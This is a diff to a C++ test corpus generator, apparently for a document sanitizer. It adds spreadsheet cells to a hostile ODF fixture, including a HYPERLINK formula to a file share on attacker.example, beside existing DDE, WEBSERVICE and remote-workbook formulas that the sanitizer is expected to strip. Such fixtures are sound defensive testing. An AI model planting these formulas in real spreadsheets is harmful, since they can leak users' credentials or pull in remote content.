@@ -211,6 +211,12 @@ void external(corpus::Writer& writer) {
       "<table:table-cell table:formula=\"of:=SUM(['file://attacker.example/share/b.ods'#$Sheet1.A1:"
       ".A3])\" office:value-type=\"float\" office:value=\"6\"><text:p>6</text:p>"
       "</table:table-cell>"
+      "<table:table-cell table:formula=\"of:=HYPERLINK(&quot;file://attacker.example/share/"
+      "x.ods&quot;;&quot;open&quot;)\" office:value-type=\"string\" office:string-value=\"open\">"
+      "<text:p>open</text:p></table:table-cell>"
+      "<table:table-cell table:formula=\"of:=HYPERLINK(&quot;https://www.example.jp/&quot;;"
+      "&quot;web&quot;)\" office:value-type=\"string\" office:string-value=\"web\">"
+      "<text:p>web</text:p></table:table-cell>"
       "<table:table-cell table:formula=\"of:=CONCATENATE(&quot;DDE(&quot;;1)\" "
       "office:value-type=\"string\" office:string-value=\"DDE(1\"><text:p>DDE(1</text:p>"
       "</table:table-cell>";
@@ -236,7 +242,8 @@ void external(corpus::Writer& writer) {
   writer.add(
       "odf/hostile/dde-and-data.ods", zip::testing::build(dde_archive),
       sanitized({"odf.dde_link", "odf.remote_resource", "odf.data_source", "odf.unsafe_link"}),
-      "a DDE formula, a WEBSERVICE formula, a reference into a workbook on a share, DDE links, a "
+      "a DDE formula, a WEBSERVICE formula, a reference into a workbook on a share, a HYPERLINK "
+      "formula to a share (the one to a web site stays), DDE links, a "
       "database range over SQL and a linked sheet; a string that only mentions DDE( stays");
 
   const std::string validation =
